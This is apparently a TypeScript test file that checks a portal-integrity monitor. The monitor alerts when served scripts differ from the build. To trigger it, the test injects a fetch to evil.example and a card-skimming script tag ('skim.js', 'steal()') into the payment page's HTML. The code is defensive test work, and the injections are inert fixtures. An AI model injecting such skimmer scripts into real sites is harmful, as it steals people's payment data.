import { appendFileSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { createApp } from '#server/app.ts'
import { checkPortal } from '#server/operations/check-portal.ts'
import { runningApi } from '../support/api.ts'
import { writeSmallPortal } from '../support/small-portal.ts'

const api = runningApi()
const [built, served] = [writeSmallPortal(), writeSmallPortal()]
let app: Awaited<ReturnType<typeof createApp>>
let deps: typeof api.server.deps

beforeAll(async () => {
  const config = { ...api.config, production: true }
  app = await createApp({ ...api.server.deps, config }, { portal: served })
  const appUrl = await app.listen({ port: 0, host: '127.0.0.1' })
  deps = { ...api.server.deps, config: { ...config, appUrl } }
})
afterAll(() => app.close())

const alerts = () => api.mails({ subject: 'was changed after the build' })

test('an unchanged portal causes no alert', async () => {
  await checkPortal(deps, built)
  expect(await alerts()).toEqual([])
})

test('a changed script and an added one are named in one alert', async () => {
  appendFileSync(join(served, 'assets/app-1234.js'), ';fetch("https://evil.example")')
  const changed = await createApp(deps, { portal: tampered() })
  const appUrl = await changed.listen({ port: 0, host: '127.0.0.1' })
  const seen = { ...deps, config: { ...deps.config, appUrl } }
  await checkPortal(seen, built)
  await checkPortal(seen, built)
  await changed.close()
  const [alert, ...others] = await alerts()
  expect(others).toEqual([])
  expect(alert?.text).toContain('/assets/app-1234.js')
  expect(alert?.text).toContain('/managePayment: https://evil.example/skim.js')
  expect(alert?.text).toMatch(/\/signup: 'sha256-/)
})

/** The served folder, with a foreign script and an inline one in the document in which people type cards. */
const tampered = (): string => {
  const path = join(served, 'app.html')
  const html = readFileSync(path, 'utf8')
  writeFileSync(
    path,
    html.replace(
      '</head>',
      '<script src="https://evil.example/skim.js"></script><script>steal()</script></head>',
    ),
  )
  return served
}
